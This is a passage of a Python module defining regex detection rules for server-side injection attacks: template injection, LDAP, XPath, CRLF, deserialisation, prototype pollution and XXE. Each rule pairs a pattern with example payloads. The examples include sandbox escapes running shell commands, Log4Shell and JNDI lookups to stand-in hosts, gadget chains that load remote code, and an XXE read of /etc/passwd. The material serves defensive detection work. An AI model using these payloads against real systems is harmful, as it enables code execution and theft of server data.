"""Web-attack signals aimed at the server's other interpreters.

Template engines and expression languages (SSTI), LDAP filters, XPath queries, XML parsers'
document types, HTTP headers (CRLF injection) and object deserialisers each read a request field
as code of their own language. A value written in one of those languages, with the moves that
break out of its intended place, is a probe or an exploit; the same language used as intended (a
template that prints a name, a filter that looks a user up) is not.
"""

from __future__ import annotations

from bastion.core.rules import Rule
from bastion.core.types import Severity

SSTI = "webattack.ssti"
LDAP = "webattack.ldap"
XPATH = "webattack.xpath"
HEADER_INJECTION = "webattack.header_injection"
OBJECT_INJECTION = "webattack.object_injection"
XXE = "webattack.xxe"

_S = Severity.HIGH  # the detector sets each finding's severity from the score

# Openers and closers of template and expression syntax: Jinja/Twig/Handlebars `{{`, `{%`; EL,
# FreeMarker, Mako, JS template literals `${`; JSF/Ruby/Spring `#{`, `*{`, `@{`; FreeMarker's
# square syntax `[=`; Thymeleaf `[[`, `[(`; Razor `@(`; ERB/JSP/ASP `<%`.
_OPEN = r"(?:\$?\{\{|\{%|\$\{|#\{|\*\{|@\{|\[\[|\[\(|\[=|@\(|<%[=#-]?|\{=)"
_CLOSE = r"(?:\}\}|%\}|\}|\]\]|\)\]|\]|\)|%>)"
# Openers that only template engines use: `{{`, `{%`, `${`, `#{`.
_TEMPLATE_OPEN = r"(?:\$?\{\{|\{%|\$\{|#\{)"

SSTI_ARITHMETIC_PROBE = Rule(
    id="ssti.arithmetic_probe",
    code=SSTI,
    # `{{7*7}}` and its kin: a tester's first question to every template engine is whether the
    # page comes back with 49. The probe multiplies one-digit literals, or short ones written
    # tight (`{{13*13}}`); real templates multiply variables or real quantities (`{{ 60 * 60 }}`),
    # and `[[0-9]]` is a character range.
    pattern=(
        _OPEN + r"\s*(?:['\"]?\d['\"]?\s*\*\s*['\"]?\d['\"]?(?:\s*\*\s*['\"]?\d['\"]?)*"
        r"|\d{1,4}\*['\"]?\d{1,4}['\"]?)\s*" + _CLOSE
    ),
    severity=_S,
    score=0.75,
    message="arithmetic probe in template or expression syntax",
    examples=(
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{7*'7'}}",
        "{{ '7'*7 }}",
        "{{7*7*7}}",
        "@(6*6)",
        "[[${7*7}]]",
        "[=3*3]",
        "@{7*7}",
        "${{11*11}}",
        "name={{13*13}}&email=a@b.c",
    ),
    counterexamples=(
        "{{ order.total }}",
        "Hello {{name}}, your order {{ order_id }} has shipped",
        "${HOME}/bin",
        'timeout: "{{ 60 * 60 }}"',
        'ttl = "${3600 * 24}"',
        "Regex [[0-9]] character class",
        "email me @(555-1234)",
        "price: ${12.50}",
    ),
)

_DUNDER = r"__(?:class|mro|base|bases|subclasses|globals|builtins|init|import|getattribute)__"

SSTI_OBJECT_WALK = Rule(
    id="ssti.object_walk",
    code=SSTI,
    # Python sandbox escapes climb from any object to `object` and back down to a class that
    # can run commands: `''.__class__.__mro__[1].__subclasses__()`, `lipsum.__globals__`.
    pattern=(
        r"__(?:class|base|bases|mro)__\s*(?:\[\s*-?\d+\s*\]\s*)?\.\s*__(?:mro|base|bases|subclasses)__"
        r"|__init__\s*\.\s*__globals__|__subclasses__\s*\(\s*\)\s*\["
        r"|\b(?:lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|request\.application"
        r"|config)\s*\.\s*(?:__init__\s*\.\s*)?__globals__"
        r"|\b_TemplateReference__context\b|__builtins__\s*\[\s*['\"]__import__"
        # A dunder reached as an attribute inside template syntax (`{{request.__class__}}`);
        # Python's own `def __init__` or `__init__.py` is not an attribute access.
        + r"|"
        + _TEMPLATE_OPEN
        + r"[^{}]*\.\s*"
        + _DUNDER
        # The same walk without underscores (Jinjava, Pebble), and Jinja's `attr` filter given
        # a name built from pieces so that no filter sees it written.
        + r"|\.class\s*\.\s*(?:mro\s*\(|bases?\s*\.\s*subclasses\b)"
        r"|\|\s*attr\s*\(\s*(?:\[|request\b|['\"](?:_|\\x5f))"
        r"|['\"]__\w*['\"]\s*\+\s*['\"]\w*__['\"]"
        r"|" + _TEMPLATE_OPEN + r"\s*for\s+\w+(?:\s*,\s*\w+)?\s+in\s+(?:config|request\.environ)"
        r"\s*\.\s*(?:items|iteritems)\s*\("
    ),
    severity=_S,
    score=0.85,
    message="Python object graph walk toward code execution (template sandbox escape)",
    examples=(
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "().__class__.__bases__[0].__subclasses__()[59]",
        "{{request.__class__}}",
        '{{request|attr(["__","class","__"]|join)}}',
        "{{request|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
        "{{ [].class.base.subclasses() }}",
        "{{''.class.mro()[1]}}",
        "{{request['__cl'+'ass__']}}",
        "{% for k, v in config.items() %}{{ k }}{% endfor %}",
    ),
    counterexamples=(
        "def __init__(self, name):\n    super().__init__()\n    self.name = name",
        "print(type(self).__name__)",
        "logger = logging.getLogger(self.__class__.__name__)",
        "{{ user.first_name }}",
        "registry = {cls.__name__: cls for cls in Base.__subclasses__()}",
        "{% for item in order.items %}{{ item.name }}{% endfor %}",
        "{{ product|attribute_list }}",
        "{{ user|attr('email') }}",
        "String name = obj.getClass().getName();",
        'def __repr__(self):    return "<%s id=%r>" % (self.__class__.__name__, self.id)',
        '{"files": [["src/__init__.py", 120], ["src/app.py", 300]]}',
        "def parent_name; self.class.superclass.name; end",
        "Animal.subclasses()",
        "{% for social in config.extra.social %}{{ social.name }}{% endfor %}",
    ),
)

SSTI_ENGINE_GADGET = Rule(
    id="ssti.engine_gadget",
    code=SSTI,
    # Known ways out of each engine into the host: Twig's filter callbacks, FreeMarker's
    # Execute class, Velocity's reflection, OGNL's member access, SpEL's type operator, Smarty's
    # PHP tags, Mako's module imports, EJS reaching Node's process, Razor starting a process,
    # Groovy's method closures, Node's `node-serialize` function marker.
    pattern=(
        r"_self\s*\.\s*env\s*\.\s*(?:registerUndefinedFilterCallback|getFilter|setCache)"
        r"|\|\s*(?:filter|map|reduce|sort)\s*\(\s*['\"](?:system|exec|passthru|shell_exec|popen"
        r"|proc_open|call_user_func)['\"]"
        r"|freemarker\.template\.utility\.(?:Execute|ObjectConstructor|JythonRuntime)"
        r"|\?\s*new\s*\(\s*\)\s*(?:\(|>|\]|$)|\?api\.(?:getClass|class)"
        r"|\.getClass\s*\(\s*\)\s*\.\s*forName\s*\(|\bforName\s*\(\s*['\"]java\.lang\.(?:Runtime"
        r"|ProcessBuilder)"
        r"|#_memberAccess|@java\.lang\.Runtime@|#context\s*\[\s*['\"]|DEFAULT_MEMBER_ACCESS"
        r"|ognl\.OgnlContext|%\{\s*\(\s*#"
        r"|\bT\s*\(\s*java\.lang\.(?:Runtime|ProcessBuilder)\s*\)"
        r"|\bT\s*\(\s*java\.lang\.System\s*\)\s*\.\s*getenv"
        r"|\bnew\s+java\.lang\.ProcessBuilder\b|\bMethodClosure\s*\("
        r"|\$\{\s*['\"][^'\"]*['\"]\s*\.\s*execute\s*\(\s*\)"
        r"|(?:\$?\{\{|\{%|\$\{|#\{)[^{}]*\bgetClassLoader\s*\("
        r"|\{(?:php|/php)\}|\{\s*(?:system|exec|passthru|shell_exec)\s*\(\s*['\"][^'\"]*['\"]\s*\)"
        r"\s*\}|Smarty_Internal_Write_File|\$smarty\.(?:version|template_object)"
        r"|<%\s*import\s+os\b|\bself\.module\.(?:cache|runtime|filters)\b"
        r"|\bprocess\.mainModule\b|<%[=-]?[^%]*\bchild_process\b"
        r"|@\(\s*System\.Diagnostics\.Process"
        r"|_\$\$ND_FUNC\$\$_"
        # The detection polyglot that breaks most engines at once.
        r"|\$\{\{\s*<%\s*\[%"
        # A template that is nothing but the engine's own objects printed whole: its settings,
        # the request, the template context (Jinja, Django, Twig). Inside a sentence, `{{app}}`
        # is wiki markup for a name.
        r"|^\s*(?:\{\{|\{%)\s*(?:config|self|_self|_context|request|request\.environ"
        r"|dump\s*\(\s*(?:app|_context)\s*\))\s*(?:\}\}|%\})\s*$"
        r"|\{\{\s*config\s*(?:\.\s*items\s*\(\s*\)|\|\s*pprint|\[\s*['\"]SECRET_KEY)"
        r"|\{\{[^{}]*\bSECRET_KEY\b|\bapp\.request\.(?:server\.all|query\.filter\s*\()"
    ),
    severity=_S,
    score=0.8,
    message="template-engine or expression-language escape to the host",
    examples=(
        '{{_self.env.registerUndefinedFilterCallback("exec")}}',
        "{{['id']|filter('system')}}",
        "{{ {'id':'shell_exec'}|map('call_user_func')|join }}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "${''.class.forName('java.lang.Runtime')}",
        "{system('ls')}",
        "{{config.items()}}",
        "{{ self }}",
        "{{ request }}",
        "{{dump(app)}}",
        "{{app.request.server.all|join(',')}}",
        "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
        "<% import os %>${os.popen('id').read()}",
        "<%= global.process.mainModule.require('child_process').execSync('id') %>",
        '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))',
        '${"whoami".execute()}',
        "${class.getClassLoader()}",
        "${{<%[%'\"}}%\\.",
    ),
    counterexamples=(
        "{{ items|map(attribute='name')|join(', ') }}",
        "{{ users|sort(attribute='age') }}",
        "System.out.println(new java.util.Date());",
        "config.yaml was updated",
        "{{ self_service_url }}",
        "Set the {config} placeholder in settings",
        'dest: "/opt/{{ app }}/current"',
        "Jira: please restart {{app}} and clear {{settings}} cache",
        "Open the {{config}} panel",
        "{{ app.request.headers.get('referer') }}",
        'int main() {system("pause"); return 0;}',
        "Scanner sc = new java.util.Scanner(System.in);",
        '@Value("#{T(java.lang.System).currentTimeMillis()}")',
        "<%! import json %>",
        "const { exec } = require('child_process');",
    ),
)

SSTI_NESTED_LOOKUP = Rule(
    id="ssti.nested_lookup",
    code=SSTI,
    # Log4j-style lookups that spell a protocol one character at a time past a filter:
    # `${${lower:j}ndi:...}`, `${${::-j}${::-n}di:...}`, `${j${x:-n}di:`, `${${base64:am5kaQ==}:`.
    # Configuration nests lookups too (`${env:LOG_DIR:-${sys:java.io.tmpdir}}`), but for a whole
    # default value, never for a single letter.
    pattern=(
        r"\$\{[a-zA-Z]{0,3}\$\{[^{}]*:-?[a-zA-Z]\s*\}|\$\{\s*\$\{\s*base64:"
        r"|(?i)\$\{\s*jndi\s*:"
    ),
    severity=_S,
    score=0.85,
    message="nested expression lookups (Log4Shell-style)",
    examples=(
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
        "${${lower:j}ndi:ldap://x.example/a}",
        "${jndi:ldap://x.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x/}",
        "${${x:-j}${x:-n}${x:-d}${x:-i}:ldap://a.example/b}",
        "${j${upper:n}di:dns://x.example}",
    ),
    counterexamples=(
        "${HOME}/.config",
        "export PATH=${PATH}:${HOME}/bin",
        "the price is ${amount}",
        'fileName="${env:LOG_DIR:-${sys:java.io.tmpdir}}/app.log"',
        "LDAP_HOST=${LDAP:-ldap.example.com}",
        "nameserver ${DNS:-1.1.1.1}",
    ),
)

SSTI_INCLUDE = Rule(
    id="ssti.include",
    code=SSTI,
    # Edge-side includes make a cache fetch and splice another URL into the page.
    pattern=r"(?i)<esi:(?:include|vars|debug|assign|inline|choose|try)\b",
    severity=_S,
    score=0.75,
    message="edge-side include markup",
    examples=('<esi:include src="http://x.example/"/>', "<esi:vars>$(HTTP_COOKIE)</esi:vars>"),
    counterexamples=("what is ESI caching?", "<esi></esi>", "esi:include is a tag name"),
)

# Where a pasted value starts: the whole field, a query parameter's value or a quoted string. A
# filter written whole starts with "(" instead, and its own presence tests (`(mail=*)`) and
# multi-word values (`(cn=John Smith)`) sit inside it.
_VALUE_START = r"(?:^|[?&][\w.-]+=|[\"'])"

LDAP_FILTER_BREAK = Rule(
    id="ldap.filter_break",
    code=LDAP,
    # A value that closes the filter it is pasted into and opens another: `*)(uid=*))(|(uid=*`,
    # `admin)(&)`, `admin)(!(&(1=0`, `*)(|(objectclass=*))`, `jdoe)(userPassword=a*`.
    pattern=(
        r"(?i)" + _VALUE_START + r"[\w@.-]*\*\s*\)+\s*\(+\s*[|&!]?\s*\(*\s*[a-z][\w-]*\s*[~<>]?="
        r"|" + _VALUE_START + r"[\w@.*-]+\)+\s*\(\s*[|&!]\s*(?:[()]|$)"
        r"|" + _VALUE_START + r"[\w@.-]*\*\s*\(\s*(?:[|&]\s*\(|\)\s*[|&])"
        r"|" + _VALUE_START + r"[\w@.-]+\)+\s*\(\s*[a-z][\w-]*\s*[~<>]?=[^()\s]*\*"
    ),
    severity=_S,
    score=0.75,
    message="LDAP filter closed and reopened",
    examples=(
        "*)(uid=*))(|(uid=*",
        "*)(|(objectclass=*))",
        "admin*)((|userpassword=*)",
        "admin)(&)",
        "admin)(!(&(1=0",
        "jdoe)(cn=*",
        "jdoe)(userPassword=a*",
        "*)(&",
        "*(|(mail=*))",
        "*()|&'",
        '{"user": "*)(uid=*))(|(uid=*"}',
    ),
    counterexamples=(
        "(&(objectClass=person)(mail=*))",
        "(|(uid=jdoe)(mail=jdoe@example.com))",
        "f(x)(y) is curried",
        "call me (cell)(555) 010 999",
        "rated 5*) (best) for speed",
        "(&(mail=*)(cn=jdoe))",
        "(&(a=1)(|(b=2)(!(c=3))))",
        "(&(objectClass=person)(cn=John Smith)(mail=*))",
        "(&(cn=Jane Doe)(|(ou=Sales)(ou=Support)))",
        "(&(cn=Jane Do*)(objectClass=user))",
        '{"filter": "(&(objectClass=user)(department=Customer Support)(manager=*))"}',
        "foo((const char*)(p = buf));",
    ),
)

LDAP_FILTER_OPENED = Rule(
    id="ldap.filter_opened",
    code=LDAP,
    # An LDAP search filter is a query language too: a value that closes the filter it was
    # pasted into and opens an OR or AND of its own (`*)(|(uid=*`, `*(|(objectclass=*))`) makes
    # the directory return every entry, or checks a password attribute one character at a time.
    # A whole filter of the directory's own starts with its parenthesis and nests others in
    # it; an injected one starts before any parenthesis of its own, after a wildcard or a name.
    pattern=(
        r"(?i)^[^(]*[*)]\s*\(\s*[|&!]\s*\(\s*[a-z][\w.;-]*\s*[~<>]?=[^()]*\)"
        r"|(?i)^[^(]*\*\s*\)\s*\(\s*[|&!]?\s*\(?\s*[a-z][\w.;-]*\s*[~<>]?="
        r"|(?i)\)\s*\(\s*[|&]\s*\)"
        # A constant truth inside a filter (`(&(1=0)(...))`): no directory attribute is a number.
        r"|\(\s*[|&!]\s*\(\s*\d+\s*=\s*\d+\s*\)"
    ),
    severity=_S,
    score=0.8,
    message="an LDAP search filter opened from inside a value",
    examples=(
        "*(|(objectclass=*))",
        "*(|(mail=*))",
        "admin*)(|(userPassword=*)",
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "(&(uid=admin)(!(&(1=0)(userPassword=q))))",
    ),
    counterexamples=(
        "(see note (a)) or (b)",
        "a | b & (c = d)",
        "smile :) (happy = yes)",
        "f(x)(|y|)",
        "(&(objectClass=user)(cn=John*)(|(ou=Sales)(ou=Ops)))",
        "(&(cn=John*)(sn=Doe))",
    ),
)

LDAP_NULL_TERMINATED = Rule(
    id="ldap.null_terminated",
    code=LDAP,
    # `*))%00`: the rest of the server's filter is cut off by a NUL byte.
    pattern=r"[\w*=]\)+\s*(?:%00|\x00)|[*=]\)+\s*\\x?00",
    severity=_S,
    score=0.7,
    message="filter closed and truncated with a NUL byte",
    examples=("*))%00", "admin)%00", "*)\x00", ")(cn=))\\x00"),
    counterexamples=("(see page 100)", "call (0)800 100", "%00 is a NUL", "b'\\x01abc)\\x00\\x00'"),
)

# A single quote that closes the string the value was pasted into: the value (or a JSON string)
# starts, a few characters, the quote. A selector written whole opens its own quotes.
_QUOTE_BREAK = r"(?:^|[=\"])[^'\"\s]*'\s*"

XPATH_NODE_PROBE = Rule(
    id="xpath.node_probe",
    code=XPATH,
    # An XPath query broken out of its quotes, then blind extraction reading the document's own
    # node names and lengths one character at a time: `' or count(/child::node())=1 or ''='`,
    # `substring(name(/*[1]),1,1)='a'`. Selectors written whole (`count(//book)`) pass.
    pattern=(
        r"(?i)" + _QUOTE_BREAK + r"\)*\s*(?:or|and)\s+(?:not\s*\(\s*)?(?:name|local-name|count"
        r"|string-length|substring|starts-with|contains|string|position|last)\s*\("
        r"|(?i)\b(?:substring|string-length)\s*\(\s*(?:local-)?name\s*\(\s*(?:/|parent::|\.\./)"
        r"|(?i)\bchild::node\s*\(\s*\)|(?i)" + _QUOTE_BREAK + r"\)?\s*\]\s*\|\s*//"
        r"|(?i)" + _QUOTE_BREAK + r"or\s+//[\w*]|(?i)\bdoc\s*\(\s*['\"](?://|\\\\)"
    ),
    severity=_S,
    score=0.75,
    message="XPath query broken out of its quotes, or a blind node probe",
    examples=(
        "' or count(/child::node())=1 or ''='",
        "substring(name(/*[1]),1,1)='a'",
        "string-length(name(parent::*))",
        "x' or name()='username' or 'x'='y",
        "']|//*|//*['",
        "' and count(/*)=1 and '1'='1",
        "search=')] | //user/*[contains(*,'",
        "search=Har') and starts-with(../password,'c",
        "x and doc('//203.0.113.5/share')",
    ),
    counterexamples=(
        "count(*) from orders",
        "the name (/ˈneɪm/) is pronounced",
        "substring(text, 1, 3)",
        "xpath //div[@class='price']",
        "count(//book)",
        "string(/catalog/title)",
        "//a[contains(@href,'login') and starts-with(@class,'btn')]",
        '<xsl:if test="@id and string-length(name) > 0">',
        "The path string (/var/log/app) is wrong",
        'Use "https://" or //cdn.example.com for the script',
        "the doc (see //share/notes) is ready",
    ),
)

# Line breaks as a URL carries them, and the UTF-8 characters some servers cut down to CR or LF.
_URL_BREAK = (
    r"(?:%0d|%0a|%e5%98%8a|%e5%98%8d|%u000d|%u000a|%250d|%250a|%25250a|%25%30[ad]|%5cr|%5cn"
    r"|%c4%8a|%c4%8d|[\x{560A}\x{560D}])"
)
_CRLF = r"(?:%0d%0a|%e5%98%8a%e5%98%8d|%u000d%u000a|%250d%250a|%5cr%5cn|\x{560D}\x{560A})"
_SPACE = r"(?:%20|%09|\+|\s)*"
# A value that starts the break: the whole field, a parameter's value, a path: not a sentence
# with its words joined by `+` (a form body in which a customer typed several lines).
_BREAK_START = r"(?:^|[=/?&#]|%2f|%3f|%23)(?:[^\s+&=%]|%[0-9a-f]{2})*?"

# Header names that only headers use, and those that are also words ("Location: Berlin" on a
# typed line): the second kind needs the CR LF pair HTTP uses, or a break right at the start.
_HEADER_NAME = (
    r"(?:set-cookie|content-(?:type|length|security-policy|disposition)|transfer-encoding"
    r"|access-control-allow-[a-z]+|cache-control|www-authenticate|x-forwarded-[a-z]+|x-real-ip"
    r"|x-original-url|x-xss-protection|x-frame-options|http/1\.[01])\s*(?::|%3a|\s\d{3})"
)
_WORD_HEADER_NAME = r"(?:location|host|refresh|connection|link|server|x-[a-z-]+|cc)\s*(?::|%3a)"
_WORD_BREAK = "(?:" + _BREAK_START + _CRLF + r"|(?:^|/|%2f|\?|%3f)" + _URL_BREAK + ")+"
_HEADER_BREAKS = (
    # a header after any break in a value or a path;
    _BREAK_START + _URL_BREAK + "+" + _SPACE + _HEADER_NAME,
    # a word-like header after CR LF, or after a break that opens the value or a path segment;
    _WORD_BREAK + _SPACE + _WORD_HEADER_NAME,
    # two breaks and a body of the attacker's choosing;
    _BREAK_START + "(?:%0d%0a|%250d%250a){2}" + _SPACE + "(?:<|%3c)",
    # wherever it is, a cookie set or a blind copy after a break is never a typed line;
    _URL_BREAK + "+" + _SPACE + "(?:set-cookie|bcc)\\s*(?::|%3a)",
    # a JSON string (a mail tool's subject) whose escaped line break adds a blind copy.
    r"\\r\\n\s*bcc\s*:\s*[^\s\"@]+@",
)

HEADER_CRLF = Rule(
    id="header.crlf",
    code=HEADER_INJECTION,
    # An encoded line break followed by a header name splits the response or adds a header
    # (CWE-113), or adds a recipient to a mail (CWE-93): `/%0d%0aSet-Cookie:`,
    # `?lang=%E5%98%8A%E5%98%8DLocation:`, `hi%0d%0aBcc:`, or two breaks and a body.
    pattern="(?i)" + "|".join(_HEADER_BREAKS),
    severity=_S,
    score=0.8,
    message="encoded line break followed by an HTTP or mail header (CRLF injection)",
    examples=(
        "%0d%0aSet-Cookie:%20session=evil",
        "%E5%98%8A%E5%98%8DSet-Cookie:%20x=y",
        "/redirect?url=%0d%0aLocation:%20http://x.example",
        "/%0ALocation:%20http://x.example",
        "abc%0d%0a%0d%0a<script>alert(1)</script>",
        "en%0d%0aX-Forwarded-Host:%20x.example",
        "/%2e%2e%2f%0d%0aSet-Cookie:crlf=injection",
        "Subject: hi%0d%0aBcc: victim@example.com",
        "/嘍嘊Set-Cookie:x=1",
        '{"subject": "Invoice\\r\\nBcc: all@example.com"}',
    ),
    counterexamples=(
        "line one%0Aline two",
        "Location: Paris, France",
        "Set-Cookie: is the header that stores a cookie",
        "a\\nb\\nc",
        "name=Ann%0ALocation%3A+Berlin",
        '{"body": "Hi\\nLocation: Berlin\\nThanks"}',
        '{"body": "Response headers:\\nSet-Cookie: session=abc; HttpOnly"}',
        '{"raw": "From: a@example.com\\r\\nTo: b@example.com\\r\\nContent-Type: text/html"}',
        "body=Hello+Anna%2C%0D%0A%0D%0A%3Cp%3EThanks+for+your+order%3C%2Fp%3E",
        "comment=The+API+returns%0D%0AContent-Type%3A+text%2Fplain+instead+of+json",
        "notes=Plot%0Ax-axis: time%0Ay-axis: value",
    ),
)

OBJECT_SERIALISED = Rule(
    id="object.serialised",
    code=OBJECT_INJECTION,
    # Serialised objects that run code while they are read back: Java streams (`aced0005`,
    # base64 `rO0AB`), .NET BinaryFormatter (`AAEAAAD/////`), PHP objects (`O:8:"stdClass":`),
    # YAML tags that construct classes, pickles that import `os.system`, Fastjson and Jackson
    # type names, and .NET gadgets named by type. Ruby's YAML tags are ordinary in gem and
    # Rails data; only the classes of the known gadget chains count.
    pattern=(
        r"\brO0AB[A-Za-z0-9+/]{8,}|\b(?i:aced0005)[0-9a-fA-F]{4,}|(?i:\bac\s+ed\s+00\s+05\s)"
        r"|\bAAEAAAD/////"
        r"|\b[OC]:\+?\d+:\"[A-Za-z_\\][\w\\]*\":\d+:\{"
        r"|!!python/(?:object|name|module)(?:/apply|/new)?:|!<tag:yaml\.org,2002:python/"
        r"|!!(?:javax?|com|org|sun)\.[\w.$]+"
        r"|!ruby/(?:object|hash|struct):(?:Gem::(?:Installer|SpecFetcher|Package::TarReader"
        r"|DependencyList|RequestSet)|Net::(?:WriteAdapter|BufferedIO)|Kernel\b)"
        r"|\bc(?:os|posix|subprocess|builtins|__builtin__|nt)\n(?:system|popen|check_output|call|exec"
        r"|eval|getattr)\n"
        r"|\"@type\"\s*:\s*\"(?:com\.sun\.|org\.apache\.|com\.mchange\.|org\.springframework\."
        r"|java\.|javax\.|com\.zaxxer\.|org\.hibernate\.)"
        r"|\[\s*\"com\.sun\.rowset\.JdbcRowSetImpl\""
        r"|\"@class\"\s*:\s*\"[\w.$]*(?:InvokerTransformer|TemplatesImpl|JdbcRowSetImpl)"
        r"|System\.Windows\.Data\.ObjectDataProvider|\bExpandedWrapper\b|\bXamlReader\b"
        r"|(?:\$type|__type)\"?\s*:\s*\"System\.(?:Windows\.Data|Diagnostics\.Process"
        r"|Management\.Automation|Configuration\.Install)"
        r"|\bTypeConfuseDelegate\b|\bTextFormattingRunProperties\b"
    ),
    severity=_S,
    score=0.8,
    message="serialised object that can run code when read (insecure deserialisation)",
    examples=(
        'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
        'O:+8:"stdClass":0:{}',
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
        "aced00057372001b636f6d2e6578616d706c65",
        "AC ED 00 05 73 72 00 11",
        "AAEAAAD/////AQAAAAAAAAAMAgAAAF",
        '!!python/object/apply:os.system ["id"]',
        '!<tag:yaml.org,2002:python/object/apply:os.system> ["id"]',
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
        ' ["http://x/"]]]]',
        "--- !ruby/object:Gem::Installer\ni: x",
        "cos\nsystem\n(S'id'\ntR.",
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x/a"}',
        '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://x/a"}]',
        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
    ),
    counterexamples=(
        "rO0 is not a word",
        'a:2:{i:0;s:3:"foo";i:1;s:3:"bar";}',
        "tags: !!str 123",
        "cos(x) and sin(x)",
        '{"$type":"MyApp.Models.Dog, MyApp"}',
        "O:8 is the seat number",
        "--- !ruby/object:Gem::Specification\nname: rake",
        "version: !ruby/object:Gem::Requirement",
        "params: !ruby/hash:ActiveSupport::HashWithIndifferentAccess",
        '{"@type":"Person","name":"Ann"}',
    ),
)

OBJECT_PROTOTYPE_POLLUTION = Rule(
    id="object.prototype_pollution",
    code=OBJECT_INJECTION,
    # A key that reaches every object's prototype when merged into one: `__proto__[isAdmin]=1`,
    # `{"__proto__": {...}}`, `constructor[prototype][x]=`, `?constructor.prototype.x=`. Code
    # that guards against it names the key in a comparison or a list, not as a key.
    pattern=(
        r"[\"']__proto__[\"']\s*:|\[\s*[\"']?__proto__[\"']?\s*\]\s*(?:\[|=|\.)"
        r"|(?:^|[?&;])\s*__proto__\s*(?:\[|\.|=)"
        r"|\.__proto__\s*(?:\[[^\]]*\]|\.\w+)\s*=[^=]"
        r"|\bconstructor\s*\[\s*[\"']?prototype[\"']?\s*\]\s*(?:\[|=|\.)"
        r"|\[\s*constructor\s*\]\s*\[\s*prototype\s*\]"
        r"|(?:^|[?&;])\s*constructor\.prototype\.\w+"
        r"|[\"']constructor[\"']\s*:\s*\{\s*[\"']prototype[\"']\s*:"
    ),
    severity=_S,
    score=0.75,
    message="prototype-polluting key",
    examples=(
        "__proto__[isAdmin]=true",
        '{"__proto__": {"isAdmin": true}}',
        "?constructor[prototype][isAdmin]=1",
        "x=1&__proto__.polluted=1",
        '{"constructor": {"prototype": {"admin": true}}}',
        "?a[constructor][prototype]=image",
        "?constructor.prototype.isAdmin=true",
        'Object.__proto__["x"]=1',
    ),
    counterexamples=(
        "Foo.prototype.bar = function () {}",
        "Object.getPrototypeOf(obj) === Foo.prototype",
        "console.log(obj.constructor.name)",
        "what is the __proto__ property in JavaScript?",
        "if (key === '__proto__' || key === 'constructor') continue;",
        "Blocked keys: ['__proto__', 'constructor', 'prototype']",
        'The "__proto__" key is ignored by our JSON parser.',
        "this.constructor.prototype[method] = fn;",
    ),
)

# An entity reference other than XML's five predefined ones (amp, lt, gt, quot, apos).
_OWN_ENTITY = (
    r"&(?:[b-fh-km-pr-z_]|a[a-ln-oq-z_]|am[a-oq-z_]|amp[\w.-]|ap[a-np-z_]|apo[a-rt-z_]"
    r"|apos[\w.-]|g[a-su-z_]|gt[\w.-]|l[a-su-z_]|lt[\w.-]|q[a-tv-z_]|qu[a-np-z_]|quo[a-su-z_]"
    r"|quot[\w.-])[\w.-]*;"
)
_SYSTEM_URL = (
    r"(?i)<!DOCTYPE\s+[\w:.-]+\s+SYSTEM\s+[\"'](?:https?|ftp|file|jar|netdoc|gopher|php|expect"
    r"|data):"
)

XXE_EXTERNAL_DTD = Rule(
    id="xxe.external_dtd",
    code=XXE,
    # A document type fetched by URL and an entity the fetched DTD must define: the parser
    # reaches out (SSRF) and the entity carries a file back. Published document types are named
    # with PUBLIC identifiers, and documents that name one by SYSTEM URL (Java properties, TestNG
    # suites) use only XML's own entities. A scheme-relative or UNC system id has no such use.
    pattern=(
        _SYSTEM_URL
        + r"[^\"']*[\"']\s*>.*"
        + _OWN_ENTITY
        + r"|(?i)<!DOCTYPE\s+[\w:.-]+\s+(?:SYSTEM|PUBLIC\s+[\"'][^\"']*[\"'])\s+[\"'](?://|\\\\)"
    ),
    severity=_S,
    score=0.75,
    message="XML document type loaded from a URL with entities of its own (external DTD)",
    examples=(
        '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://x.example/evil.dtd"><data>&e;</data>',
        '<!DOCTYPE r SYSTEM "//x.example/evil.dtd"><r/>',
        "<!DOCTYPE r SYSTEM '\\\\\\\\198.51.100.1\\\\share\\\\x.dtd'><r/>",
    ),
    counterexamples=(
        '<!DOCTYPE note SYSTEM "Note.dtd">',
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
        "<!DOCTYPE html>",
        '<!DOCTYPE properties SYSTEM "http://java.sun.com/dtd/properties.dtd">'
        '<properties><entry key="a">x &amp; y</entry></properties>',
        '<!DOCTYPE suite SYSTEM "https://testng.org/testng-1.0.dtd"><suite name="All"></suite>',
    ),
)

XXE_EXTERNAL_DTD_ALONE = Rule(
    id="xxe.external_dtd_alone",
    code=XXE,
    # The fetch alone: a supporting signal, since some published types are named this way.
    pattern=_SYSTEM_URL,
    severity=_S,
    score=0.45,
    message="XML document type loaded from a URL",
    examples=("<!DOCTYPE r SYSTEM 'file:///etc/passwd'>",),
    counterexamples=('<!DOCTYPE note SYSTEM "Note.dtd">',),
)

XXE_ENTITY_EXPANSION = Rule(
    id="xxe.entity_expansion",
    code=XXE,
    # "Billion laughs": entity after entity made of nothing but references to the one before,
    # so a few lines expand to gigabytes. Composed text entities have words or spaces between.
    pattern=(
        r"(?i)<!ENTITY\s+[\w.-]+\s+[\"'](?:&[\w.-]+;){2,}[\"']\s*>\s*"
